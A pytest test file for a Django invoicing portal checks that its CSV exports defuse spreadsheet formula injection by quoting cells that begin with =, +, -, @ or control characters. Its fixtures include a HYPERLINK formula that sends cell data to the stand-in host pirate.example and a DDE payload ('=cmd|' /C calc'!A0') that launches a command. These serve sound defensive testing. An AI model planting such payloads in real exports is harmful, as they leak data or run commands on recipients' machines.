"""Injection and content: what the portal sends back cannot run as a formula, a script or a page."""

import csv
import io

import pytest
from django.urls import reverse

from choruspro.spreadsheet import safe_cell
from structures import services
from structures.enums import Role
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://pirate.example/?x="&A1;"Cliquez")'


def exported_rows(response) -> list[list[str]]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23", "'+33 1 23"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\r=1", "'\r=1"),
        ("-12,50", "-12,50"),
        ("1080,00", "1080,00"),
        ("Menuiserie = bois", "Menuiserie = bois"),
        ("", ""),
        (42, 42),
    ],
)
def test_only_formulas_are_quoted(value, cell):
    assert safe_cell(value) == cell


@pytest.mark.parametrize("side", ["supplier", "recipient"])
def test_invoice_exports_quote_a_supplier_formula(client, make_invoice, supplier, recipient, side):
    make_invoice(numero_engagement=HYPERLINK, contract_number="+MARCHE")
    client.force_login(supplier.gp if side == "supplier" else recipient.gp)
    url = "/factures-emises/rechercher/" if side == "supplier" else "/factures-recues/rechercher/"
    rows = exported_rows(client.get(url, {"format": "csv"}))
    header, row = rows[0], rows[1]
    assert row[header.index("Numéro d'engagement")] == f"'{HYPERLINK}"
    assert row[header.index("Numéro de marché")] == "'+MARCHE"
    assert row[header.index("Montant TTC")].replace(",", "").isdigit()


def test_user_export_quotes_a_formula_in_a_name(client, manager):
    colleague = UserFactory(nom="=cmd|' /C calc'!A0", prenom="@Prénom")
    services.attach_user(actor=manager, structure_id=manager.structure.pk, user=colleague, role=Role.USER)
    client.force_login(manager)
    rows = exported_rows(client.get(reverse("structures:user_export")))
    row = next(row for row in rows if row[2] == colleague.email)
    assert row[:2] == ["'=cmd|' /C calc'!A0", "'@Prénom"]
